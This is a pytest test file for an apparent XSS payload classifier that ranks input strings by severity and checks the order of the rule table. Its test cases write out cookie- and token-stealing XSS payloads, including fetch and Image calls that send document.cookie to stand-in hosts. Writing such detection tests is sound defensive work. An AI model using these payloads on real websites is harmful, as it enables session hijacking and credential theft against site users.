import pytest

from xsslab.security.rules import RULES, Severity, classify, is_attack_pattern


@pytest.mark.parametrize(
    "payload",
    [
        "document.cookie",
        "<script>fetch('//evil/?c='+document.cookie)</script>",
        "<img src=x onerror=alert(localStorage.token)>",
        "javascript:eval(document.cookie)",
        "localStorage",
    ],
)
def test_cookie_or_storage_access_is_always_critical(payload):
    result = classify(payload)
    assert result.severity is Severity.CRITICAL
    assert result.tag == "credential-exfiltration"


@pytest.mark.parametrize(
    "payload",
    ["", "hello world", "<b>bold</b>", "SELECT * FROM comments", "<SCRIPT>ALERT(1)</SCRIPT>", "Alert me later"],
)
def test_payloads_without_triggers_are_low(payload):
    result = classify(payload)
    assert result.severity is Severity.LOW
    assert result.tag == "none"


def test_none_payload_is_low():
    assert classify(None) == (Severity.LOW, "none")


def test_script_tag_beats_alert():
    assert classify("<script>alert(1)</script>") == (Severity.HIGH, "script-injection")


def test_script_and_cookie_is_critical_not_high():
    assert classify("<script>new Image().src='//x/'+document.cookie</script>").severity is Severity.CRITICAL


@pytest.mark.parametrize("handler", ["onerror=", "onload=", "onmouseover="])
def test_inline_event_handlers(handler):
    assert classify(f"<img src=x {handler}alert(1)>") == (Severity.HIGH, "event-handler")


def test_alert_or_prompt_is_proof_of_concept():
    assert classify("alert(1)") == (Severity.MEDIUM, "proof-of-concept")
    assert classify("prompt('hi')") == (Severity.MEDIUM, "proof-of-concept")


def test_javascript_url_and_eval():
    assert classify("<a href='javascript:void(0)'>x</a>") == (Severity.HIGH, "script-url")
    assert classify("eval(atob('Zm9v'))") == (Severity.HIGH, "eval-call")


def test_alert_rule_precedes_javascript_url():
    # rule order: proof-of-concept is checked before script-url
    assert classify("javascript:alert(1)") == (Severity.MEDIUM, "proof-of-concept")


def test_rule_table_order():
    assert [r.tag for r in RULES] == [
        "credential-exfiltration",
        "script-injection",
        "event-handler",
        "proof-of-concept",
        "script-url",
        "eval-call",
    ]


def test_is_attack_pattern():
    assert is_attack_pattern("<svg onload=alert(1)>")
    assert not is_attack_pattern("just a comment")


def test_severity_parse_and_rank():
    assert Severity.parse("HIGH") is Severity.HIGH
    assert Severity.CRITICAL.rank > Severity.HIGH.rank > Severity.MEDIUM.rank > Severity.LOW.rank
    with pytest.raises(ValueError):
        Severity.parse("urgent")
